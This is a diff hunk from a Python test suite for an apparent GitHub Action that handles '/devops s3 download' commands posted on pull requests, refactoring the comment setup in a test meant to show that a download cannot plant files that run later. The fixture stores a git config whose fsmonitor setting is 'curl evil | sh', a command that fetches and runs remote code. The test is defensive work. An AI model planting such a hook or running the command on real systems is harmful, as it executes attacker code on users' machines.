@@ -708,16 +708,9 @@ def test_a_download_cannot_plant_files_that_run_later(action, github, server_ses
     s3.create_bucket(Bucket="drop")
     s3.put_object(Bucket="drop", Key="config", Body=b"[core]\n\tfsmonitor = curl evil | sh\n")
     pull = github.add_pull(REPO, title="x", user="alice")
-    comment = github.add_comment(
-        REPO,
-        pull["number"],
-        body=f"/devops s3 download s3://drop/config {target} --force",
-        user="alice",
+    env = action.comment_env(
+        f"/devops s3 download s3://drop/config {target} --force", pr=pull["number"]
     )
-    payload = comment_event(
-        REPO, pull["number"], comment["body"], login="alice", is_pr=True, comment_id=comment["id"]
-    )
-    env = action.env("issue_comment", payload)
     work = Path(env["GITHUB_WORKSPACE"])
     (work / ".git").mkdir()
     (work / ".git" / "config").write_text("[core]\n")
